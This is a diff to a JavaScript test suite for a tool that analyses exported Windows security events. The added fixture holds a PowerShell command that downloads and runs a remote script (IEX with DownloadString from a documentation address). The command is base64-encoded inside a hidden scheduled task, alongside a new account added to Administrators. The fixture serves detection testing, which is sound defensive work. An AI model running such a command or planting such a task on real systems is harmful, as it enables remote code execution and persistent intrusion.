@@ -83,6 +83,7 @@ describe('exported events of Windows', () => {
       LogonType: '3',
     }),
   );
+  const script = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.90/a.ps1")', 'utf16le');
 
   it('join the refusals of network level authentication to the session that followed', async () => {
     const { bruteForce, entry } = await sheetOf({
@@ -97,5 +98,30 @@ describe('exported events of Windows', () => {
     });
     expect(bruteForce).toMatchObject([{ address: '192.0.2.140', tries: 30, success: { user: 'administrator' } }]);
     expect(entry).toMatchObject({ how: expect.stringContaining('guessed password of administrator') });
+  });
+
+  it('name where the whole command of a task calls, and members of a group by their name', async () => {
+    const { indicators, accounts } = await sheetOf({
+      'Security.xml': `<Events>${[
+        event(4720, '2026-10-14T21:19:10.000Z', SECURITY, {
+          TargetUserName: 'svc_bak$',
+          TargetSid: 'S-1-5-21-1-2-3-1009',
+        }),
+        event(4732, '2026-10-14T21:19:20.000Z', SECURITY, {
+          TargetUserName: 'Administrators',
+          MemberName: '-',
+          MemberSid: 'S-1-5-21-1-2-3-1009',
+        }),
+        event(4698, '2026-10-14T21:25:00.000Z', SECURITY, {
+          TaskName: '\\WinUpd',
+          TaskContent: `&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/Command&gt;&lt;Arguments&gt;-nop -w hidden -enc ${script.toString('base64')}&lt;/Arguments&gt;&lt;/Exec&gt;`,
+        }),
+      ].join('\n')}</Events>`,
+    });
+    expect(indicators.map(({ value }) => value)).toContain('http://192.0.2.90/a.ps1');
+    expect(indicators.every(({ value }) => !'http://192.0.2.90/a.ps1'.startsWith(value) || value.endsWith('ps1'))).toBe(
+      true,
+    );
+    expect(new Set(accounts.map(({ name }) => name))).toEqual(new Set(['svc_bak$']));
   });
 });
